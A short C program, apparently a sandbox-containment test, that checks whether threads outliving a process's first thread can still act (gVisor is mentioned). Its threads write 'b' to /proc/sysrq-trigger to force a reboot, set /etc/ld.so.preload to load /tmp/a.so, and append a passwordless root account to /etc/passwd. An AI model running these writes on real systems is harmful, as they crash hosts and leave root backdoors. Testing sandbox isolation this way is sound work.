/* A process does not end with its first thread. What happens here is done by threads that outlive
   it: by one of a child, by one that executes a program, by one of process 1 itself. As "act" it is
   that program. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <signal.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static void say(const char *path, const char *text) {
  int fd = open(path, O_WRONLY | O_CREAT, 0644);
  if (fd >= 0) {
    if (write(fd, text, strlen(text)) < 0) close(fd);
    close(fd);
  }
}

static void *asks_for_a_restart(void *unused) {
  (void)unused;
  usleep(100000);
  say("/proc/sysrq-trigger", "b");
  _exit(0);
}

static void *executes(void *unused) {
  (void)unused;
  usleep(100000);
  execl("/app/main", "main", "act", NULL);
  _exit(1);
}

static void *stays(void *unused) {
  (void)unused;
  usleep(100000);
  say("/etc/ld.so.preload", "/tmp/a.so\n");
  if (fork() == 0) {
    say("/etc/passwd", "x::0:0::/:/bin/sh\n");
    _exit(0);
  }
  for (;;) pause();
}

static void leave_it_to(void *(*act)(void *)) {
  pthread_t thread;
  pthread_create(&thread, NULL, act, NULL);
  syscall(SYS_exit, 0);
}

/* gVisor of 2022 never wakes a thread that executes a program when its first one is gone already. */
static void wait_for(void *(*act)(void *)) {
  pthread_t thread;
  pthread_create(&thread, NULL, act, NULL);
  for (;;) pause();
}

static void in_child(void (*first)(void *(*)(void *)), void *(*act)(void *)) {
  pid_t child = fork();
  if (child == 0) first(act);
  if (child > 0) waitpid(child, NULL, 0);
}

static void end(int signal) {
  (void)signal;
  _exit(7);
}

int main(int count, char **words) {
  (void)words;
  if (count > 1) {
    mount("none", "/tmp", "tmpfs", 0, NULL);
    return 0;
  }
  signal(SIGTERM, end);
  in_child(leave_it_to, asks_for_a_restart);
  in_child(wait_for, executes);
  leave_it_to(stays);
  return 0;
}
